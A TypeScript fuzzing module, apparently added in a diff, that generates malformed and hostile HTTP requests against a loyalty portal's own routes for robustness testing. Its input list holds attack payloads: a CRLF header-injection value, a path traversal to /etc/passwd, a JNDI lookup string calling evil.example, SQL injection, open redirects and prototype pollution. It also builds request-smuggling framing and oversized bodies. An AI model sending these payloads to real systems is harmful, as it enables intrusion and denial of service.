@@ -1,0 +1,270 @@
+import fc from 'fast-check';
+import { browserRoutes } from '@/contract/browser-routes';
+import { header } from '@/contract/headers';
+import { walletService } from '@/contract/wallet-service';
+
+/** A request as it is written to the wire, and what is done to the connection meanwhile. */
+export interface HostileRequest {
+  bytes: Buffer;
+  /**
+   * - `read`: waits for the whole response
+   * - `leave`: closes as soon as the request is written
+   * - `half`: writes half of it and closes
+   * - `halfClose`: ends its own side, and reads
+   */
+  manner: 'read' | 'leave' | 'half' | 'halfClose';
+}
+
+/** Where requests are sent: names of hosts that belong to a business, and the cookies of somebody who is signed in. */
+export interface Target {
+  hosts: readonly string[];
+  port: string;
+  sessionCookie: string;
+}
+
+const naughty = [
+  '',
+  ' ',
+  'a%0d%0ab',
+  '%0d%0aSet-Cookie:%20x=y',
+  '%e2%82%ac',
+  '%f0%9f%98%80',
+  '%00',
+  '%ff',
+  '%',
+  '%zz',
+  '%ed%a0%80',
+  'a\u0000b',
+  '\u00e9\u00fc',
+  '\u00c3\u0080',
+  '"',
+  '{',
+  '{"code":"tr"}',
+  '%7B%22code%22%3A%22..%2F..%2Fx%22%7D',
+  '%7B%22__proto__%22%3A1%7D',
+  '__proto__',
+  '../../../etc/passwd',
+  '..%2f..%2fadmin',
+  '${jndi:ldap://evil.example}',
+  "' or 1=1 --",
+  'https://evil.example/',
+  '//evil.example',
+  'a.b.c.d.e',
+  'eyJhbGciOiJkaXIifQ..AAAA.BBBB.CCCC',
+  'x'.repeat(3_000),
+  '9007199254740993',
+  '-1',
+  '1e309',
+  'NaN',
+  'true',
+];
+const junk = fc.oneof(
+  { weight: 3, arbitrary: fc.constantFrom(...naughty) },
+  { weight: 1, arbitrary: fc.string({ maxLength: 40 }) },
+  { weight: 1, arbitrary: fc.uint8Array({ maxLength: 40 }).map((bytes) => Buffer.from(bytes).toString('latin1')) },
+  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 20 }).map(percentEncoded) },
+);
+
+function percentEncoded(text: string): string {
+  return [...Buffer.from(text)].map((byte) => `%${byte.toString(16).padStart(2, '0')}`).join('');
+}
+
+const cookieNames = [
+  ...['lp.sid', 'lp.csrf', 'lp.cb', 'lp.browser', 'lp.ended', 'lp.sid.0', 'lp.sid.9'].flatMap((name) => [
+    name,
+    `__Host-${name}`,
+  ]),
+  'SelectedLanguage',
+  'SelectedCountry',
+  'cc_cookie',
+  '__proto__',
+];
+const headerNames = [
+  ...Object.values(header),
+  'accept',
+  'accept-encoding',
+  'content-type',
+  'expect',
+  'forwarded',
+  'if-modified-since',
+  'if-none-match',
+  'next-router-state-tree',
+  'next-url',
+  'origin',
+  'purpose',
+  'range',
+  'referer',
+  'rsc',
+  'sec-fetch-dest',
+  'sec-fetch-mode',
+  'sec-fetch-site',
+  'stripe-signature',
+  'user-agent',
+  'x-forwarded-for',
+  'x-forwarded-proto',
+  'x-http-method-override',
+  'x-lp-client-address',
+  'x-middleware-subrequest',
+  'x-nextjs-data',
+];
+const pages = [
+  '/',
+  '/auth/signin',
+  '/lp',
+  '/locations',
+  '/member/shop',
+  '/member/rewards',
+  '/purchasescanner',
+  '/view/x',
+];
+const besides = [
+  '/api/auth/session',
+  '/api/auth/csrf',
+  '/api/auth/callback/custom',
+  '/api/auth/callback/temporaryToken',
+  '/api/auth/signout',
+  '/api/auth/_log',
+  '/api/csp-report',
+  '/api/hosted/style.css',
+  '/api/hosted/checkout/x',
+  '/api/hosted/stripe/webhook',
+  '/api/openapi.json',
+  walletService.applePass,
+  `${walletService.appleService}/v1/passes/p/s`,
+  '/_next/data/x/index.json',
+  '/_next/image',
+  '/_next/static/x.js',
+  '/embed.js',
+  '/firebase-messaging-sw-generated.js',
+  '/manifest.webmanifest',
+  '/readyz',
+];
+const callPaths = Object.values(browserRoutes).map(({ path }) => path);
+
+/** What of a text may stand in a request line: a space or a line's end would make it another line. */
+const inTarget = (text: string) => text.replaceAll(/[\u0000-\u0020\u007f]/g, '_');
+/** What of a text may stand in a header's line: anything but its end. */
+const inLine = (text: string) => text.replaceAll(/[\r\n]/g, '_');
+
+const path = fc
+  .tuple(
+    fc.constantFrom(...pages, ...besides, ...callPaths, ...callPaths),
+    junk,
+    fc.constantFrom('', '', '/', '/x.css', ';x'),
+  )
+  .map(([known, value, end]) => inTarget(known.replaceAll(/\{\w+\}/g, value) + end));
+const query = fc
+  .array(
+    fc.tuple(
+      fc.constantFrom(
+        'callbackUrl',
+        'temporarytoken',
+        'theme',
+        'locale',
+        'id',
+        'formId',
+        'ref',
+        'locationId',
+        '__nextLocale',
+        'nxtPid',
+      ),
+      junk,
+    ),
+    { maxLength: 3 },
+  )
+  .map((pairs) =>
+    pairs.length === 0 ? '' : `?${pairs.map(([name, value]) => `${name}=${inTarget(value)}`).join('&')}`,
+  );
+const cookies = fc
+  .array(fc.tuple(fc.constantFrom(...cookieNames), junk), { maxLength: 4 })
+  .map((pairs) => pairs.map(([name, value]) => `${name}=${inLine(value)}`));
+const headers = fc.array(fc.tuple(fc.constantFrom(...headerNames), junk), { maxLength: 4 });
+const body = fc.oneof(
+  fc.constant(''),
+  fc.json().map(String),
+  fc.constantFrom(
+    '{',
+    'null',
+    '[]',
+    '{"__proto__":{"a":1}}',
+    `${'['.repeat(20_000)}`,
+    `{"a":${'{"a":'.repeat(5_000)}1${'}'.repeat(5_000)}}`,
+    'x'.repeat(70_000),
+    'csrfToken=a&callbackUrl=//evil.example&json=true',
+    '\u00ff\u00fe\u0000',
+  ),
+  junk,
+);
+const bodyHeaders = fc.constantFrom<string[]>(
+  ['content-type: application/json'],
+  ['content-type: application/json; charset=utf-16'],
+  ['content-type: application/x-www-form-urlencoded'],
+  ['content-type: text/plain'],
+  ['content-type: multipart/form-data; boundary=x'],
+  ['content-type: application/json', 'content-encoding: gzip'],
+);
+/** How long a body says that it is. */
+const framing = fc.constantFrom('right', 'right', 'right', 'longer', 'shorter', 'chunked', 'both', 'junk');
+
+function framed(text: string, how: string): { lines: string[]; bytes: Buffer } {
+  const bytes = Buffer.from(text, 'latin1');
+  const length = (count: number | string) => [`content-length: ${count}`];
+  const chunked = Buffer.concat([
+    Buffer.from(`${bytes.length.toString(16)}\r\n`),
+    bytes,
+    Buffer.from(bytes.length > 0 ? '\r\n0\r\n\r\n' : '\r\n'),
+  ]);
+  if (how === 'longer') return { lines: length(bytes.length + 7), bytes };
+  if (how === 'shorter') return { lines: length(Math.max(0, bytes.length - 7)), bytes };
+  if (how === 'chunked') return { lines: ['transfer-encoding: chunked'], bytes: chunked };
+  if (how === 'both') return { lines: [...length(4), 'transfer-encoding: chunked'], bytes: chunked };
+  if (how === 'junk') return { lines: length('4, 4'), bytes };
+  return { lines: length(bytes.length), bytes };
+}
+
+function hostOf({ hosts, port }: Target): fc.Arbitrary<string> {
+  return fc.oneof(
+    { weight: 6, arbitrary: fc.constantFrom(...hosts).map((host) => `${host}:${port}`) },
+    {
+      weight: 2,
+      arbitrary: fc.tuple(fc.constantFrom(...hosts), fc.integer({ min: 0, max: 99_999 })).map((at) => at.join(':')),
+    },
+    { weight: 1, arbitrary: fc.integer({ min: 0, max: 1_000_000 }).map((at) => `h${at}.localhost:${port}`) },
+    { weight: 1, arbitrary: junk.map(inLine) },
+  );
+}
+
+/** Requests of a client that wishes the portal no good: well-formed ones with junk in every part, and malformed ones. */
+export function hostileRequest(target: Target): fc.Arbitrary<HostileRequest> {
+  const own = fc.constantFrom([], [], [`lp.sid=${target.sessionCookie}`]);
+  const lines = fc.record({
+    method: fc.constantFrom('GET', 'GET', 'GET', 'POST', 'POST', 'PUT', 'DELETE', 'HEAD', 'OPTIONS', 'TRACE', 'PATCH'),
+    path,
+    query,
+    host: hostOf(target),
+    session: own,
+    cookies,
+    headers,
+    body,
+    bodyHeaders,
+    framing,
+    isBroken: fc.integer({ min: 0, max: 19 }),
+    manner: fc.constantFrom<HostileRequest['manner']>('read', 'read', 'read', 'read', 'leave', 'half', 'halfClose'),
+  });
+  return lines.map((drawn) => {
+    const withBody = !['GET', 'HEAD', 'TRACE'].includes(drawn.method);
+    const sent = withBody ? framed(drawn.body, drawn.framing) : { lines: [], bytes: Buffer.alloc(0) };
+    const jar = [...drawn.session, ...drawn.cookies];
+    const start = [
+      `${drawn.method} ${drawn.path}${drawn.query} HTTP/1.1`,
+      `Host: ${drawn.host}`,
+      ...(jar.length > 0 ? [`Cookie: ${jar.join('; ')}`] : []),
+      ...drawn.headers.map(([name, value]) => `${name}: ${inLine(value)}`),
+      ...(withBody ? drawn.bodyHeaders : []),
+      ...sent.lines,
+      'Connection: close',
+    ];
+    const text = drawn.isBroken === 0 ? `${start.join('\n')}\n\n` : `${start.join('\r\n')}\r\n\r\n`;
+    return { bytes: Buffer.concat([Buffer.from(text, 'latin1'), sent.bytes]), manner: drawn.manner };
+  });
+}
